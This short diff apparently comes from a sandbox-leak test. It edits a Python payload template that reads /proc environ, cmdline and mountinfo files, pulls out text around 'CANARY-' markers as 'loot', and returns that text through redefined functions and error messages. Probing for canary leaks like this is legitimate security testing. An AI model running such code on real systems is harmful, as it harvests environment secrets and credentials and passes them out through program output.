@@ -112,7 +112,7 @@ for place in {places!r}:
 for f in ("/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ", "/proc/self/mountinfo"):
     try: loot.append(open(f).read())
     except Exception: pass
-loot = [t[max(0, t.find("CANARY") - 40):][:200] for t in loot if "CANARY" in t]
+loot = [t[max(0, t.find("CANARY-") - 40):][:200] for t in loot if "CANARY-" in t]
 print("LOOT", loot)
 def clip(xs, lo, hi): raise ValueError(str(loot))
 def words(text): return {{str(loot): 1}}'''
